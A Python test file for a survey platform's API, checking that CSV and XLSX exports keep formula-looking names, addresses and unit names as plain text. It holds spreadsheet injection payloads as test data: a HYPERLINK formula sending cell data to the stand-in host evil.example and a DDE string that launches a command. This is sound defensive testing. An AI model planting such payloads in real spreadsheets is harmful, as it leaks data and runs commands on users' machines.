"""No export carries a live spreadsheet formula: values typed by people (names,
addresses, unit names) that start with = + - @ stay text in CSV and XLSX."""

from __future__ import annotations

import io
import zipfile

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tests.api.factories import response_body, setup_campaign
from tests.api.sampling_data import case_lines, csv_bytes, frame_and_draw, setup, upload

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Xem")'


def _xlsx_formulas(data: bytes) -> list[bytes]:
    """Every <f> (formula) element of the workbook's sheets."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return [
            part
            for name in book.namelist()
            if name.startswith("xl/worksheets/")
            for part in book.read(name).split(b"<f>")[1:]
        ]


def test_results_unit_exports_keep_a_formula_looking_unit_name_as_text(
    client: TestClient, admin_headers: dict[str, str]
) -> None:
    campaign_id = setup_campaign(client, admin_headers)
    unit = {"code": "tp", "name": FORMULA, "kind": "department", "parent_code": "st"}
    assert client.post("/api/v1/units", json=unit, headers=admin_headers).status_code == 201
    for score in (5, 4, 4, 3, 5, 4, 2, 5, 4, 4, 5):
        answers = {"S24": score, "FEEDBACK": "2", "R_SEX": "1"}
        stored = client.post(
            f"/api/v1/campaigns/{campaign_id}/responses",
            json=response_body(answers, unit_code="tp"),
            headers=admin_headers,
        )
        assert stored.status_code == 201, stored.text
    base = f"/api/v1/campaigns/{campaign_id}/results"
    assert client.post(base, headers=admin_headers).status_code == 200
    as_csv = client.get(f"{base}/units.csv", headers=admin_headers).content.decode("utf-8-sig")
    row = as_csv.splitlines()[1]
    assert "'=HYPERLINK" in row
    assert ",=" not in row
    as_xlsx = client.get(f"{base}/units.xlsx", headers=admin_headers).content
    assert _xlsx_formulas(as_xlsx) == []
    sheet = load_workbook(io.BytesIO(as_xlsx)).active
    assert sheet is not None
    assert sheet["C2"].value == FORMULA
    assert sheet["C2"].data_type == "s"
    assert sheet["E2"].data_type == "n", "figures stay numbers"


def test_surveyor_lists_keep_formula_looking_names_and_addresses_as_text(
    client: TestClient, admin_headers: dict[str, str]
) -> None:
    campaign_id = setup(client, admin_headers)
    lines = [
        line.replace("Nguyễn Văn", "@SUM(1+1)*cmd|' /C calc'!A0 Nguyễn Văn").replace(
            "Ấp ", "-2+3 Ấp "
        )
        for line in case_lines(20)
    ]
    assert upload(client, admin_headers, campaign_id, csv_bytes(lines)).status_code == 200
    _frame, sample = frame_and_draw(client, admin_headers, campaign_id)
    surveyor = client.post(
        "/api/v1/surveyors", json={"full_name": "+84 Trần Thị Thu"}, headers=admin_headers
    ).json()
    assigned = client.post(
        f"/api/v1/samples/{sample['id']}/assignments",
        json={"surveyor_ids": [surveyor["id"]], "group_by": "none"},
        headers=admin_headers,
    )
    assert assigned.status_code == 200, assigned.text
    base = f"/api/v1/samples/{sample['id']}/surveyors/{surveyor['id']}/list"
    as_csv = client.get(f"{base}.csv", headers=admin_headers).content.decode("utf-8-sig")
    for line in as_csv.splitlines()[1:]:
        assert ",'@SUM" in line
        assert ",'-2+3 Ấp" in line
        assert ",@" not in line
        assert ",-2" not in line
    as_xlsx = client.get(f"{base}.xlsx", headers=admin_headers).content
    assert _xlsx_formulas(as_xlsx) == []
    sheet = load_workbook(io.BytesIO(as_xlsx)).worksheets[0]
    names = [row[5] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert names
    assert all(str(name).startswith("@SUM(1+1)") for name in names)
